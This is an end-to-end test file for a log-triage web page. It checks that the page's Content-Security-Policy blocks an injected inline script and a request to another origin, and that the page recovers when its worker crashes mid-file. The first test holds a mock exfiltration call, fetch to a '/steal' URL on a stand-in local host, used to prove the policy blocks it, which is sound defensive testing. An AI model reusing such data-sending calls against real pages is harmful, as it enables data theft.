// End to end, issue 17: the release page under its Content-Security-Policy (no 'unsafe-inline': Trunk's loader
// runs by its hash, an injected inline script and a request to another origin are blocked), and a worker that
// fails mid-file (as on running out of memory) gives a message and leaves a working page.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { rmSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launch, startServer, openPage, writeBigMsiLog, KB979906 } from './helpers.mjs';

let browser, server, dir, big;
before(async () => {
  server = await startServer();
  browser = await launch();
  dir = mkdtempSync(join(tmpdir(), 'setup-triage-hostile-'));
  big = join(dir, 'big-MSI1935.LOG');
  writeBigMsiLog(big);
});
after(async () => {
  await browser?.close();
  await server?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test('the policy allows the loader by its hash only: an injected inline script and another origin are blocked', async () => {
  const { context, page, requests, errors } = await openPage(browser, server.url);
  try {
    const csp = await page.evaluate(() =>
      document.querySelector('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'));
    assert.doesNotMatch(csp, /unsafe-inline|loader-hash/);
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/);
    const result = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const s = document.createElement('script');
      s.textContent = 'window.__injected = 1;';
      document.body.appendChild(s);
      let fetched;
      try {
        await fetch('http://127.0.0.2:9/steal?x=1');
        fetched = 'sent';
      } catch (e) {
        fetched = 'blocked';
      }
      await new Promise((r) => setTimeout(r, 200));
      return { injected: window.__injected ?? null, fetched, violations };
    });
    assert.equal(result.injected, null, 'the injected inline script ran');
    assert.equal(result.fetched, 'blocked');
    assert.ok(result.violations.some((v) => v.startsWith('script-src')), JSON.stringify(result));
    assert.ok(result.violations.includes('connect-src'), JSON.stringify(result));
    // The page itself works under the policy.
    await page.fill('textarea#paste', KB979906);
    await page.click('button[type=submit]');
    await page.locator('ol.steps > li.step').first().waitFor();
    for (const r of requests) assert.ok(r.startsWith(server.url), `request to another origin: ${r}`);
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('a worker that fails mid-file gives a clear message, and the next diagnosis works', async () => {
  const { context, page } = await openPage(browser, server.url);
  try {
    await page.setInputFiles('#file-input', big);
    const started = page.waitForEvent('worker');
    await page.click('button[type=submit]');
    const worker = await started;
    await page.locator('progress#read-progress').waitFor();
    // What a trap looks like from outside: an error the worker does not catch (out of memory in WebAssembly
    // is `RuntimeError: unreachable`).
    await worker.evaluate(() => {
      setTimeout(() => {
        throw new Error('RuntimeError: unreachable (injected by the test)');
      }, 0);
    });
    const message = page.locator('.error', { hasText: 'The log reader stopped with an error' });
    await message.waitFor({ timeout: 10000 });
    assert.equal(await page.locator('progress#read-progress').count(), 0);
    // The input stays, and a new diagnosis (in a fresh worker) works.
    assert.equal(await page.locator('.file-list li', { hasText: 'big-MSI1935.LOG' }).count(), 1);
    await page.locator('.file-list li button').first().click();
    await page.fill('textarea#paste', KB979906);
    await page.click('button[type=submit]');
    await page.locator('ol.steps > li.step').first().waitFor({ timeout: 20000 });
  } finally {
    await context.close();
  }
});
